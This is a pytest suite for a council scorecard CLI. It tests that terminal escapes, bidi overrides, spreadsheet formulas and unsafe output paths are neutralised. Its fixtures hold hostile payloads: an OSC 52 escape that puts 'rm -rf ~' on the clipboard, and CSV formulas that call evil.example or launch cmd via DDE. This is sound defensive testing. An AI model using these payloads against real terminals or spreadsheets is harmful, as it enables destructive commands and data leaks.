"""Break tests for what we print and write (issue 8, points 10-13).

Escapes in a report's footers and headings, text another tool wrote into the database,
formulas in CSV cells, and briefing files aimed at links, databases and pipes.
"""

from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import stat
from pathlib import Path

import pytest
from click.testing import CliRunner
from reportlab.pdfbase import pdfmetrics

from scorecard_tui.cli.main import cli
from scorecard_tui.model import Report
from scorecard_tui.outputs.export import to_json
from scorecard_tui.records import report_from_dict
from scorecard_tui.store import Store
from scorecard_tui.text.safe_output import csv_cell
from tests.conftest import copy_of

# WinAnsi slots given over to characters no honest report holds, so the PDF really carries them.
SMUGGLED = {"¤": "uni001B", "¦": "uni0007", "¬": "uni202E", "§": "uni202C", "±": "uni009B"}
OSC52 = "¤]52;c;cm0gLXJmIH4=¦"  # set the clipboard to "rm -rf ~"
TITLE = "¤]2;pwned¦"  # set the window title
BAD = ("\x1b", "\x07", "\x9b", "\u202e", "\u202c", "\x08")
"""What must never reach a terminal: ESC, BEL, CSI (C1), bidi overrides, backspace."""

HOSTILE_META = {
    "name": f"Improvement {OSC52}Report{TITLE} - Council Scorecard",
    "source": f"DORIS{OSC52}",
    "organisation": f"Corporate ¬secruoseR§ {OSC52}Resources",
    "team": f"Performance ±31mand{TITLE} Intelligence Team",
}


def _hostile_font(name: str, base: str) -> str:
    if name not in pdfmetrics.getRegisteredFontNames():
        encoding = pdfmetrics.Encoding(f"{name}Encoding", "WinAnsiEncoding")
        for char, glyph in SMUGGLED.items():
            encoding[ord(char)] = glyph
        pdfmetrics.registerEncoding(encoding)
        font = pdfmetrics.Font(name, base, f"{name}Encoding")
        font.encName = "cp1252"  # text is encoded byte for byte; the PDF names the glyphs above
        pdfmetrics.registerFont(font)
    return name


def bad_in(text: str) -> list[str]:
    """The forbidden characters found in ``text`` (C1 controls counted as a range)."""
    found = [repr(c) for c in BAD if c in text]
    found += sorted({repr(c) for c in text if 0x80 <= ord(c) <= 0x9F})
    return found


@pytest.fixture(scope="module")
def hostile_pdf(tmp_path_factory, builder, sample_source) -> Path:
    """The sample with escapes in every footer field and the first directorate heading."""
    source = json.loads(json.dumps(sample_source))
    source.update(HOSTILE_META)
    first = source["measures"][0]["directorate"]
    for m in source["measures"]:
        if m["directorate"] == first:
            m["directorate"] = f"Communities {OSC52}& Place{TITLE}"
    path = tmp_path_factory.mktemp("hostile-meta") / "hostile-meta.pdf"
    style = builder.LayoutStyle(
        font=_hostile_font("Helvetica-HostileMeta", "Helvetica"),
        bold_font=_hostile_font("Helvetica-Bold-HostileMeta", "Helvetica-Bold"),
    )
    builder.build_scorecard_pdf(source, path, style)
    return path


@pytest.fixture(scope="module")
def hostile_template(hostile_pdf: Path, tmp_path_factory) -> Path:
    """The hostile PDF imported through the real CLI, once a module: tests take a copy, never this."""
    db = tmp_path_factory.mktemp("hostile-db") / "hostile.db"
    result = CliRunner().invoke(cli, ["import", str(hostile_pdf), "--db", str(db)])
    assert result.exit_code == 0, result.output
    assert not db.with_name("hostile.db-wal").exists(), "closed: the file holds it all"
    return db


@pytest.fixture
def hostile_db(hostile_template: Path, tmp_path: Path) -> Path:
    """The hostile PDF imported through the real CLI: a test's own copy."""
    return copy_of(hostile_template, tmp_path)


@pytest.fixture(scope="module")
def sample_report(sample_source) -> Report:
    return report_from_dict(sample_source)


OUTPUTS = [
    ["summary"],
    ["export", "--format", "csv"],
    ["export", "--format", "json"],
    ["brief"],
    ["brief", "--format", "csv"],
]
"""Every command that prints a report's text."""


def run(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, list(args))
    return result.exit_code, result.stdout, result.stderr


# -- point 10: escapes in report metadata ---------------------------------------------


def test_the_pdf_really_carries_escapes_in_its_footers_and_headings(hostile_pdf: Path):
    import pdfplumber

    with pdfplumber.open(hostile_pdf) as pdf:
        first, last = pdf.pages[0].extract_text(), pdf.pages[-1].extract_text()
    assert "Directorate : Communities \x1b]52;c;" in first
    assert "Data Source: DORIS\x1b]52;c;cm0gLXJmIH4=\x07" in first
    assert "\u202esecruoseR\u202c" in first and "\x9b31mand" in first
    assert "Report Name: Improvement \x1b]52;" in last


def test_import_stores_report_metadata_clean(hostile_db: Path):
    with sqlite3.connect(hostile_db) as conn:
        name, source, organisation, team = conn.execute(
            "SELECT name, source, organisation, team FROM reports"
        ).fetchone()
        directorates = [r[0] for r in conn.execute("SELECT DISTINCT directorate FROM measures")]
    for text in (name, source, organisation, team, *directorates):
        assert not bad_in(text), text
    assert name == "Improvement Report - Council Scorecard"
    assert source == "DORIS"
    assert organisation == "Corporate secruoseR Resources"
    assert team == "Performance 31mand Intelligence Team"
    assert "Communities & Place" in directorates


@pytest.mark.parametrize("command", OUTPUTS, ids=" ".join)
def test_no_output_carries_escapes_from_the_report(hostile_db: Path, command: list[str]):
    status, out, err = run(*command, "--db", str(hostile_db))
    assert status == 0, err
    assert not bad_in(out)
    assert "Communities & Place" in out  # still readable
    if command != ["brief", "--format", "csv"]:  # the briefing's rows do not name the report
        assert "Improvement Report - Council Scorecard" in " ".join(out.split())


def test_summary_keeps_rich_markup_in_metadata_literal(tmp_path: Path, sample_report):
    from dataclasses import replace

    db = tmp_path / "markup.db"
    with Store(db) as store:
        store.save_report(replace(sample_report, name="Scorecard [bold red]LIVE[/] [link=http://evil.example]x[/link]"))
    status, out, _ = run("summary", "--db", str(db))
    assert status == 0
    assert "Scorecard [bold red]LIVE[/] [link=http://evil.example]x[/link]" in out


# -- point 11: what another tool wrote into the database --------------------------------


def _dirty_the_database(db: Path) -> None:
    """What any member of the group can do to a shared file: write raw escapes into it."""
    with sqlite3.connect(db) as conn:
        conn.execute(
            "UPDATE reports SET name = name || ?, source = source || ?, team = ?",
            ["\x1b]52;c;aGk=\x07", "\x1b[2J\x9b", "Team\x1b]0;owned\x07"],
        )
        conn.execute(
            "UPDATE measures SET title = ? || title, commentary = commentary || ?, directorate = directorate || ?",
            ["\x1b[2J\x1b]52;c;aGk=\x07", "\u202eesrever\u202c\x07", "\x1b[31m"],
        )
        conn.execute(
            "UPDATE annotations SET value = value || ?, author = ?",
            ["\x1b]52;c;cm0gLXJmIH4=\x07", "mallory\x1b]0;title\x07"],
        )


@pytest.fixture
def dirty_db(tmp_path: Path, sample_report) -> Path:
    db = tmp_path / "dirty.db"
    with Store(db) as store:
        store.save_report(sample_report)
        info = store.latest_report()
        code = next(m.code for m in sample_report.measures if m.rag_quarter and m.rag_quarter.value == "Red")
        store.annotations.set_flag(info, code, "raise")
        store.annotations.add_note(info, code, "Ask for the plan")
    _dirty_the_database(db)
    return db


def test_the_store_cleans_what_another_tool_wrote_as_it_reads_it(dirty_db: Path):
    """Every writer cleans again on the way out, so the command tests pass without the store's
    cleaning: read the store itself."""
    with Store(dirty_db, read_only=True) as store:
        info = store.latest_report()
        report = store.load_report(info.id)
        texts = [info.name, info.source, info.team or "", report.name, report.team or ""]
        texts += [t for m in report.measures for t in (m.title, m.commentary, m.directorate)]
        texts += [t for a in store.annotations.notes(info).values() for t in (a.value, a.author)]
    assert any("esrever" in t for t in texts)  # the planted text is there, its controls are not
    assert not [t for t in texts if bad_in(t)]


@pytest.mark.parametrize("command", OUTPUTS, ids=" ".join)
def test_text_another_tool_wrote_is_cleaned_on_the_way_out(dirty_db: Path, command: list[str]):
    status, out, err = run(*command, "--db", str(dirty_db))
    assert status == 0, err
    assert not bad_in(out)
    if command != ["brief", "--format", "csv"]:
        assert "Improvement Report - Council Scorecard" in " ".join(out.split())
    if command[0] == "brief":
        assert "Ask for the plan" in out
    if command == ["brief"]:
        assert "Note (mallory, " in out
    if command[0] == "export":
        assert "esrever" in out


def test_store_reads_give_clean_notes_authors_and_metadata(dirty_db: Path):
    with Store(dirty_db, read_only=True) as store:
        info = store.latest_report()
        notes = store.annotations.notes(info)
        history = [a for code in notes for a in store.annotations.annotation_history(info, code, "flag")]
        measures = store.measures(info.id)
    assert not bad_in(f"{info.name}{info.source}{info.team}")
    assert [n.value for n in notes.values()] == ["Ask for the plan"]
    assert {n.author for n in notes.values()} | {a.author for a in history} == {"mallory"}
    assert not any(bad_in(f"{m.title}{m.commentary}{m.directorate}") for m in measures)


def test_json_export_escapes_what_json_dumps_leaves_raw(sample_source):
    source = json.loads(json.dumps(sample_source))
    source["measures"][0]["title"] = "CSI \x9b2J bidi \u202eevil\u202c sep\u2028 ok é £ –"
    document = to_json([report_from_dict(source)])
    assert not bad_in(document) and "\u2028" not in document
    assert "é £ –" in document  # readable text stays as it is
    assert json.loads(document)["reports"][0]["measures"][0]["title"] == source["measures"][0]["title"]


# -- point 12: CSV formula injection ---------------------------------------------------

FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "commentary": "+cmd|' /C calc'!A0",
    "actions": "@SUM(1+1)*cmd|' /C calc'!A0",
    "review": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def formula_db(tmp_path_factory, builder, sample_source) -> Path:
    """A report whose first (Red) measure's title and narrative are spreadsheet formulas."""
    source = json.loads(json.dumps(sample_source))
    first = source["measures"][0]
    first["cells"]["measure"] = f"{first['code']} {FORMULAS['title']}"
    for field in ("commentary", "actions", "review"):
        first[field] = FORMULAS[field]
    folder = tmp_path_factory.mktemp("formula")
    builder.build_scorecard_pdf(source, folder / "formula.pdf")
    db = folder / "formula.db"
    result = CliRunner().invoke(cli, ["import", str(folder / "formula.pdf"), "--db", str(db)])
    assert result.exit_code == 0, result.output
    with Store(db) as store:
        info = store.latest_report()
        store.annotations.set_flag(info, first["code"], "raise")
        store.annotations.add_note(info, first["code"], "=1+1")
    return db


def _cells(output: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(output)))


def test_exported_csv_cells_are_never_formulas(formula_db: Path):
    status, out, _ = run("export", "--format", "csv", "--db", str(formula_db))
    assert status == 0
    rows = _cells(out)
    first = rows[0]
    assert first["title"] == "'" + FORMULAS["title"]
    for field in ("commentary", "actions", "review"):
        assert first[field] == "'" + FORMULAS[field]
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), value
    assert float(first["quarter_actual"]) == 82.0  # numbers stay numbers


def test_briefing_csv_cells_are_never_formulas(formula_db: Path):
    status, out, _ = run("brief", "--format", "csv", "--db", str(formula_db))
    assert status == 0
    rows = _cells(out)
    titles = {r["title"] for r in rows}
    assert "'" + FORMULAS["title"] in titles
    assert FORMULAS["title"] not in titles
    assert any(r["detail"] == "'=1+1" for r in rows if r["section"] == "Flagged: raise")
    for row in rows:
        for value in row.values():
            assert not value.lstrip(" ").startswith(("=", "+", "-", "@")), value


def test_a_negative_number_is_still_a_number():
    assert csv_cell(-3.5) == -3.5
    assert csv_cell("-3.5") == "-3.5"
    assert csv_cell("-12%") == "-12%"
    assert csv_cell("-3.5 days") == "'-3.5 days"
    assert csv_cell("  =1+1") == "'  =1+1"
    assert csv_cell("\t=1+1") == "' =1+1"  # the tab becomes a space, and the cell is still neutralised


# -- point 13: where briefings are written ---------------------------------------------


@pytest.fixture
def sample_db(tmp_path: Path, sample_report) -> Path:
    db = tmp_path / "scorecard.db"
    with Store(db) as store:
        store.save_report(sample_report)
    return db


def test_a_link_planted_at_the_old_temporary_name_is_not_followed(sample_db: Path, tmp_path: Path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "out.md"
    (tmp_path / ".out.md.tmp").symlink_to(victim)
    status, _, err = run("brief", "--db", str(sample_db), "--output", str(out))
    assert status == 0, err
    assert victim.read_text() == "precious\n"
    assert out.read_text().startswith("# Briefing: ")
    assert not [p.name for p in tmp_path.iterdir() if p.name.startswith(".out.md.") and p.name != ".out.md.tmp"]


def test_a_link_at_the_output_is_refused(sample_db: Path, tmp_path: Path):
    victim = tmp_path / "victim.txt"
    victim.write_text("precious\n")
    out = tmp_path / "out.md"
    out.symlink_to(victim)
    status, _, err = run("brief", "--db", str(sample_db), "--output", str(out))
    assert status == 2
    assert err == f"scorecard: {out}: is a symbolic link; not writing there\n"
    assert out.is_symlink() and victim.read_text() == "precious\n"


def test_the_database_itself_is_never_the_output(sample_db: Path, tmp_path: Path):
    before = sample_db.read_bytes()
    status, _, err = run("brief", "--db", str(sample_db), "--output", str(sample_db))
    assert status == 2
    assert err.startswith(f"scorecard: {sample_db}: ") and "not writing over it" in err
    assert len(err.splitlines()) == 1
    assert sample_db.read_bytes() == before
    with Store(sample_db, read_only=True) as store:
        assert len(store.reports()) == 1


def test_another_database_and_the_wal_file_are_never_the_output(sample_db: Path, tmp_path: Path):
    other = tmp_path / "other.sqlite"
    with Store(sample_db) as store:
        report = store.load_report(store.latest_report().id)
    with Store(other) as store:
        store.save_report(report)
    before = other.read_bytes()
    status, _, err = run("brief", "--db", str(sample_db), "--output", str(other))
    assert (status, err) == (2, f"scorecard: {other}: is a SQLite database; not writing over it\n")
    assert other.read_bytes() == before
    wal = sample_db.with_name(sample_db.name + "-wal")
    status, _, err = run("brief", "--db", str(sample_db), "--output", str(wal))
    assert status == 2 and "is the database (or one of its files)" in err


def test_a_pipe_is_refused_without_waiting(sample_db: Path, tmp_path: Path):
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    status, _, err = run("brief", "--db", str(sample_db), "--output", str(fifo))
    assert (status, err) == (2, f"scorecard: {fifo}: is a named pipe; not writing there\n")
    assert stat.S_ISFIFO(fifo.lstat().st_mode)


def test_a_private_briefing_stays_private(sample_db: Path, tmp_path: Path):
    out = tmp_path / "private.md"
    out.write_text("old\n")
    out.chmod(0o600)
    status, _, err = run("brief", "--db", str(sample_db), "--output", str(out))
    assert status == 0, err
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    assert out.read_text().startswith("# Briefing: ")


def test_a_new_briefing_follows_the_umask(sample_db: Path, tmp_path: Path):
    old = os.umask(0o027)
    try:
        status, _, err = run("brief", "--db", str(sample_db), "--output", str(tmp_path / "new.md"))
    finally:
        os.umask(old)
    assert status == 0, err
    assert stat.S_IMODE((tmp_path / "new.md").stat().st_mode) == 0o640


def test_only_an_ordinary_file_counts_as_a_briefing_to_ask_about_replacing(tmp_path: Path):
    """What x asks before replacing is exactly what the safe writer would replace."""
    from scorecard_tui.outputs.files import replaceable

    plain = tmp_path / "plain.md"
    plain.write_text("old briefing")
    database = tmp_path / "s.db"
    sqlite3.connect(database).execute("CREATE TABLE t (x)").connection.commit()
    wal = tmp_path / "s.db-wal"
    wal.write_bytes(b"\x37\x7f\x06\x82" + b"\0" * 28)
    link = tmp_path / "link.md"
    link.symlink_to(plain)
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    assert replaceable(plain)
    assert not replaceable(plain, protect=[plain])
    for refused in (database, wal, link, fifo, tmp_path, tmp_path / "missing.md"):
        assert not replaceable(refused), refused
